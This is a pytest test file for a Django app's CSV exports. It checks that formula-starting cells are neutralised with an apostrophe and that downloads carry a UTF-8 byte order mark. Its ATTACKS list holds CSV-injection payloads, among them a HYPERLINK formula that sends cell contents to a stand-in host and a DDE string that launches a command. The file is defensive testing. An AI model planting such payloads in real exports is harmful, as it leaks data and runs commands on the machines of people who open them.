"""One CSV writer for every download: no cell is a formula, and Excel reads the accents."""

import csv
import io

import pytest
from django.urls import reverse

from districts.csv_export import BOM, csv_response, writer
from measures.models import Answer, Item, ItemKind, Response
from tests.factories import make_instrument
from tests.measures.helpers import survey_in_week

ATTACKS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1"]


def _rows(text: str) -> list[list[str]]:
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text[len(BOM) :])))


def test_no_cell_starts_a_formula_and_numbers_stay_numbers():
    stream = io.StringIO()
    writer(stream).writerows([["name", "n", "share"], *[[a, -3, "-0.25"] for a in ATTACKS], ["Íñigo Peña", 4, "0.5"]])
    rows = _rows(stream.getvalue())
    for row in rows[1:-1]:
        assert row[0].startswith("'") and row[0].lstrip("'")[:1] in "=+-@\t"
        assert row[1:] == ["-3", "-0.25"]
    assert rows[-1] == ["Íñigo Peña", "4", "0.5"]


def test_a_download_starts_with_the_byte_order_mark():
    reply = csv_response("x.csv", [["escuela"], ["Señora Núñez"]])
    assert reply["Content-Type"] == "text/csv; charset=utf-8"
    assert reply.content.startswith("\ufeff".encode())
    assert _rows(reply.content.decode("utf-8")) == [["escuela"], ["Señora Núñez"]]


@pytest.mark.django_db
def test_a_written_answer_reaches_the_teachers_export_neutralised(client, personas):
    instrument = make_instrument()
    survey = survey_in_week(personas.classroom, instrument, 0, productive=10)  # raw rows only from 10 up
    item = Item.objects.create(
        instrument=instrument, order=9, prompt_en="Why?", prompt_es="¿Por qué?", kind=ItemKind.TEXT
    )
    Answer.objects.create(
        administration=survey,
        response=Response.objects.filter(administration=survey).first(),
        item=item,
        text=ATTACKS[0],
    )
    client.force_login(personas.teacher)
    reply = client.get(reverse("measures:classroom_export", args=[personas.classroom.pk]) + "?raw=1")
    cells = [cell for row in _rows(reply.content.decode("utf-8"))[1:] for cell in row[2:]]
    assert "'" + ATTACKS[0] in cells
    assert not any(cell[:1] and cell[:1] in "=+-@" for cell in cells)
